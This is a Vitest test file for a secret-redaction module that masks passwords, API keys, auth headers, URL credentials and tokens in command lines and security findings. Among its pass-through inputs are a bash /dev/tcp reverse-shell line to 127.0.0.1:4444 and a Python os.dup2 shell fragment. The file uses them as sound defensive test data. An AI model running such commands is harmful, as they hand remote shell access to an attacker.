import { describe, expect, it } from "vitest";
import { REDACTED, redactSecrets, redactString } from "../../../src/output/redact.js";

const R = REDACTED;

describe("redactString: one case per pattern", () => {
  it.each([
    // options and assignments
    ["mysql --password=hunter2 -h db", `mysql --password=${R} -h db`],
    ["tool --api-key='k3y' x", `tool --api-key='${R}' x`],
    ["AWS_SECRET_ACCESS_KEY=abc123 aws s3 ls", `AWS_SECRET_ACCESS_KEY=${R} aws s3 ls`],
    ["GITHUB_TOKEN=abc make", `GITHUB_TOKEN=${R} make`],
    ["client_secret:xyz", `client_secret:${R}`],
    // an option and its value as the next word
    ["psql --password hunter2 db", `psql --password ${R} db`],
    ["vault login -token s.abc", `vault login -token ${R}`],
    // headers
    ["curl -H Authorization: Bearer eyabc.def https://x", `curl -H Authorization: Bearer ${R} https://x`],
    ["curl -H 'Authorization: Basic dXNlcjpwdw==' https://x", `curl -H 'Authorization: Basic ${R}' https://x`],
    ["wget --header=X-Api-Key: k123 https://x", `wget --header=X-Api-Key: ${R} https://x`],
    ["curl -H Cookie: a=1; b=2", `curl -H Cookie: ${R} ${R}`],
    // URLs
    ["git clone https://user:s3cr3t@git.example.internal/r.git", `git clone https://user:${R}@git.example.internal/r.git`],
    ["curl https://api.example.internal/v1?access_token=abc&x=1", `curl https://api.example.internal/v1?access_token=${R}&x=1`],
    ["curl 'https://b.example.internal/o?X-Amz-Signature=f00&X-Amz-Date=1'", `curl 'https://b.example.internal/o?X-Amz-Signature=${R}&X-Amz-Date=1'`],
    // tokens by their shape
    ["echo ghp_0123456789abcdefghijABCDEFGHIJ0123", `echo ${R}`],
    ["x xoxb-1234567890-abcdefghij", `x ${R}`],
    ["jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlXzEyMw", `jwt ${R}`],
  ])("%s", (input, expected) => {
    const r = redactString(input);
    expect(r.value).toBe(expected);
    expect(r.count).toBeGreaterThan(0);
  });

  it.each([
    "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
    "git commit --author=me -m fix",
    "ssh-keygen -f /root/.ssh/id --passphrase-file=/etc/pass",
    "ls -la /tmp",
    "curl https://example.internal/a?b=c",
    "PWD=/home/x OLDPWD=/ sh",
    "python3 -c 'import os; os.dup2(s.fileno(),0)'",
  ])("leaves %s alone", (input) => {
    expect(redactString(input)).toEqual({ value: input, count: 0 });
  });

  it("is linear in attacker-chosen input (no backtracking on long words)", () => {
    for (const word of ["a".repeat(200_000), "'".repeat(200_000) + "x", "-".repeat(100_000) + "password", "x://" + ":".repeat(100_000)]) {
      const started = process.hrtime.bigint();
      redactString(`${word} ${word}`);
      // Measured in microseconds per KB, not a benchmark: a quadratic scan takes minutes here.
      expect(Number(process.hrtime.bigint() - started) / 1e9).toBeLessThan(2);
    }
  });
});

describe("redactSecrets: a whole finding", () => {
  it("redacts argv arrays element-wise, options' next elements too, and copies only what changed", () => {
    const finding = {
      rule: { id: "TRC-101" },
      process: { args: ["mysql", "--password", "hunter2", "-e", "select 1"], command_line: "mysql --password hunter2 -e select 1", parent: { args: ["bash"] } },
      destination: { ip: "127.0.0.1", port: 4444 },
    };
    const r = redactSecrets(finding);
    expect(r.count).toBe(2);
    expect(r.value.process.args).toEqual(["mysql", "--password", R, "-e", "select 1"]);
    expect(r.value.process.command_line).toBe(`mysql --password ${R} -e select 1`);
    expect(r.value.process.parent).toBe(finding.process.parent);
    expect(r.value.destination).toBe(finding.destination);
    expect(finding.process.args[2]).toBe("hunter2");
  });

  it("returns the same object when there is nothing to redact", () => {
    const finding = { process: { args: ["bash", "-i"] } };
    expect(redactSecrets(finding)).toEqual({ value: finding, count: 0 });
    expect(redactSecrets(finding).value).toBe(finding);
  });
});
